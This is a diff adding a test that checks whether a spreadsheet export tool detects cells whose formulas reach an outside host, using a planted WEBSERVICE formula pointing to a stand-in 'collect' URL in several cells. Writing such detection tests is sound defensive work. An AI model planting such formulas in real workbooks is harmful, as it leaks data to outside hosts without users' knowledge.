@@ -46,6 +46,27 @@ it('STO54 gives the same cut as the file: typed, typed over, formulas of people,
   expect(rows.filter((row) => row.formulaIn.length > 0).map((row) => row.riskId)).toEqual(['NS-2026-0003']);
 });
 
+it('STO21 sees cell by cell what reaches outside: on other worksheets, beside the tables, on lines', async () => {
+  const { workbook } = office.box.tenant;
+  const outside = '=WEBSERVICE("https://collect.caseworkcharity.example/")';
+  const added = await workbook.addWorksheet('Ours');
+  await workbook.patchRange(added.id, 'B3', { formulas: [[outside]] });
+  await workbook.patchRange(workbook.worksheet(demoOrg.regions[0]?.name ?? '').id, 'AZ1', {
+    formulas: [[outside]],
+  });
+  await office.type('NS-2026-0002', 'Notes', outside);
+
+  const [file, cells] = [await cutOf(storeWith()), await cutOf(storeWith(ranges))];
+
+  expect(file.reachesOut).toEqual([
+    { kind: 'formula', sheet: 2, cell: 'AZ1' },
+    { kind: 'formula', sheet: demoOrg.regions.length + 4, cell: 'B3' },
+  ]);
+  expect(cells.reachesOut).toEqual(file.reachesOut);
+  const rows = cells.regions[0]?.rows ?? [];
+  expect(rows.filter((row) => row.reachesOut === true).map((row) => row.riskId)).toEqual(['NS-2026-0002']);
+});
+
 it('STO54 tells missing tables and columns as the file does', async () => {
   const more = {
     ...demoOrg,
